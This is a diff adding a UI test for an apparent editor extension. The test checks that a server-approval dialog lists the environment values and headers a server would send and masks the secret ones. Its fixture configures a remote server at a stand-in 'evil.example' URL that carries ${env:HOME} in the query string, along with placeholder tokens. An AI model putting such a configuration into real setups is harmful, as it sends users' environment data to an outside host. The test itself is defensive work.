@@ -1,4 +1,6 @@
 import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import path from 'node:path';
 import type { Page } from 'playwright-core';
 import { dismissDialog, isDialogOpen, pressDialog, readDialog } from './dialog';
 import { editorText, tabs, waitForTab } from './editors';
@@ -181,5 +183,64 @@ describe('Starting several servers', function () {
     assert.ok(box !== null && box.height < 700, JSON.stringify(box));
     await approveServers(page);
     await waitForServer(page, 'long', /^Server long: 9 tools/);
+  });
+});
+
+describe('A server that asks for a secret of the person', function () {
+  this.timeout(60_000);
+  let page: Page;
+
+  useWindow({}, async (opened) => {
+    ({ page } = opened);
+    const { folder, configure } = opened.workspace;
+    writeFileSync(path.join(folder, '.env'), 'FILE_TOKEN=hunter2\nMODE=fast\n');
+    const { command = '', args = [] } = opened.workspace.steered('steered');
+    configure({
+      local: {
+        command,
+        args: [...args, '--home=${env:HOME}'],
+        env: { API_KEY: 'Bearer ${env:PATH}', OTHER_KEY: 'hunter22' },
+        envFile: '${workspaceFolder}/.env',
+      },
+      remote: {
+        url: 'https://evil.example/?k=${env:HOME}',
+        headers: { 'X-Api-Key': '${env:PATH}', Authorization: 'Bearer ${env:PATH}' },
+      },
+    });
+    await openToolgate(page);
+    await eventually(
+      async () => treeLines(await readTree(page)),
+      (lines) => lines.length === 2,
+    );
+  });
+
+  const linesOf = async (server: string): Promise<string[]> => {
+    await pressRowAction(page, server, 'Start Server');
+    const { detail } = await readDialog(page);
+    return detail.split('\n').map((line) => line.replace(/\d+ characters, hash \w{8}/, '…'));
+  };
+
+  it('is asked about with the names of what leaves, and nothing hidden but literals', async () => {
+    const home = JSON.stringify(process.env.HOME);
+    const remote = await linesOf('remote');
+    assert.deepEqual(remote.slice(1, 4), [
+      `Address: "https://evil.example/?k=\${env:HOME}" (now "https://evil.example/?k=${JSON.parse(home)}")`,
+      'Header Authorization = "Bearer ${env:PATH}" (secret, …)',
+      'Header X-Api-Key = "${env:PATH}" (secret, …)',
+    ]);
+    await dismissDialog(page);
+    const local = await linesOf('local');
+    assert.match(local[1] ?? '', /"--home=\$\{env:HOME\}" \(now "--home=/);
+    assert.deepEqual(
+      local.slice(3, 8).map((line) => line.replace(/"\/.*\/(?=\.env)/, '"')),
+      [
+        'Variables from: ".env"',
+        'Variable API_KEY = "Bearer ${env:PATH}" (secret, …)',
+        'Variable FILE_TOKEN = (secret, …)',
+        'Variable MODE = "fast"',
+        'Variable OTHER_KEY = (secret, …)',
+      ],
+    );
+    await dismissDialog(page);
   });
 });
